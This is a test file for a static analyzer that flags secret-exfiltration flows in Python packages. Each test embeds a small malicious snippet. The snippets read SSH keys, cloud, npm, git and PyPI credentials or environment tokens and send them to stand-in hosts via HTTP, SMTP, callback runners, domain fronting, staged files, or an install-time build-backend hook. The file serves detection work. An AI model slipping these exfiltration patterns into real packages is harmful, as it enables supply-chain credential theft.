// Shapes found by red-teaming the Python front-end (fixtures/pypi/malicious/*): each test
// pins the general mechanism that catches one of them.
import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

describe("red-team recall", () => {
  it("a Request object handed to an opener's open() carries its URL and body", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, urllib.request
        body = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
        opener = urllib.request.build_opener()
        opener.open(urllib.request.Request("http://198.51.100.7/s", data=body))
      `,
    });
    expect(flowsOf(facts)).toEqual(["cloud-credentials@pkg/__init__.py:2 -> http@pkg/__init__.py:4 http://198.51.100.7/s [import]"]);
  });

  it("requests.Request(method, url) prepared and sent through a session", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        req = requests.Request("POST", "https://c.example.net/x", data=os.environ["NPM_TOKEN"])
        requests.Session().send(req.prepare())
      `,
    });
    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:2 -> http@pkg/__init__.py:3 https://c.example.net/x [import]"]);
  });

  it("a @property getter runs on attribute access (in __init__ of an instance created at import)", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, urllib.request
        class E:
            def __init__(self):
                self.home = "~"
                urllib.request.urlopen("https://x.example.net/", data=self.auth)
            @property
            def auth(self):
                return open(os.path.join(self.home, ".npmrc")).read()
        E()
      `,
    });
    expect(flowsOf(facts)).toEqual(["registry-token@pkg/__init__.py:8 -> http@pkg/__init__.py:5 https://x.example.net/ [import]"]);
  });

  it("set_*/add_* setters of library objects hold what they are given (EmailMessage.set_content)", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, smtplib
        from email.message import EmailMessage
        msg = EmailMessage()
        msg.set_content(open(os.path.expanduser("~/.netrc")).read())
        smtplib.SMTP_SSL("smtp.example.net", 465).sendmail("a@x", ["b@x"], msg.as_string())
      `,
    });
    expect(flowsOf(facts)).toEqual(["netrc@pkg/__init__.py:4 -> mail@pkg/__init__.py:5 smtp.example.net [import]"]);
  });

  it.each([
    ["atexit.register(f, *args)", "atexit.register(send, data)"],
    ["executor.submit(f, *args)", "concurrent.futures.ThreadPoolExecutor().submit(send, data)"],
    ["threading.Timer(t, f, args)", "threading.Timer(5, send, (data,)).start()"],
    ["threading.Thread(target=f, args=...)", "threading.Thread(target=send, args=(data,)).start()"],
  ])("callback runners pass their arguments: %s", async (_name, call) => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import atexit, concurrent.futures, os, threading, requests
        def send(v):
            requests.post("https://c.example.net/x", data=v)
        data = open(os.path.expanduser("~/.git-credentials")).read()
        ${call}
      `,
    });
    expect(flowsOf(facts)).toEqual(["git-credentials@pkg/__init__.py:4 -> http@pkg/__init__.py:3 https://c.example.net/x [import]"]);
  });

  it("map() with a user function runs it on each element; a credential path argument is inlined", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        def grab(name):
            return open(os.path.join(os.path.expanduser("~"), name)).read()
        blobs = list(map(lambda n: grab(n), [".ssh" + os.sep + "id_rsa", "notes.txt"]))
        requests.post("https://c.example.net/x", json=blobs)
      `,
    });
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:3 -> http@pkg/__init__.py:5 https://c.example.net/x [import]"]);
  });

  it("a Host header (domain fronting) decides the destination, so the own-service exception does not apply", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        t = os.environ["GITHUB_TOKEN"]
        requests.post("https://api.github.com/x", headers={"Host": "relay.example.net", "Authorization": t})
        requests.post("https://api.github.com/y", headers={"Authorization": t})
      `,
    });
    expect(flowsOf(facts)).toEqual([
      "env-secret@pkg/__init__.py:2 -> http@pkg/__init__.py:3 relay.example.net [import]",
      "env-secret@pkg/__init__.py:2 -> http@pkg/__init__.py:4 https://api.github.com/y [import]",
    ]);
  });

  it.each([
    ["shutil.copyfile then open()", `shutil.copyfile(KEY, STAGE)`, `open(STAGE, "rb")`],
    ["open(w).write then open()", `open(STAGE, "wb").write(open(KEY, "rb").read())`, `open(STAGE, "rb").read()`],
    ["with open(w) as fh then Path.read_bytes()", `with open(STAGE, "w") as fh:\n    fh.write(open(KEY).read())`, `pathlib.Path(STAGE).read_bytes()`],
    ["Path.write_text then zipfile read", `pathlib.Path(STAGE).write_text(open(KEY).read())`, `zipfile.ZipFile(STAGE).read("x")`],
  ])("a file written earlier carries what was written: %s", async (_name, write, read) => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, pathlib, shutil, tempfile, zipfile, requests
        KEY = os.path.expanduser("~/.ssh/id_rsa")
        STAGE = os.path.join(tempfile.gettempdir(), "cache.bin")
        def upload():
            requests.post("https://c.example.net/x", data=${read})
        ${write.replace(/\n/g, "\n        ")}
        upload()
      `,
    });
    expect(flowsOf(facts).map((f) => f.replace(/@pkg\/__init__.py:\d+/, ""))).toEqual(["ssh-key -> http@pkg/__init__.py:5 https://c.example.net/x [import]"]);
  });

  it("an in-tree PEP 517 backend (backend-path) runs its hooks at install", async () => {
    const facts = await analyze({
      "pyproject.toml": `
        [build-system]
        requires = ["setuptools"]
        build-backend = "backend"
        backend-path = ["_build"]
      `,
      "_build/backend.py": `
        import os, requests
        def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
            requests.post("https://c.example.net/w", data=open(os.path.expanduser("~/.pypirc")).read())
        def helper():
            requests.get("https://c.example.net/unused")
      `,
    });
    expect(flowsOf(facts)).toEqual(["registry-token@_build/backend.py:3 -> http@_build/backend.py:3 https://c.example.net/w [install]"]);
    expect(facts.sinks.find((s) => s.destination === "https://c.example.net/unused")?.trigger).toBe("call");
  });
});
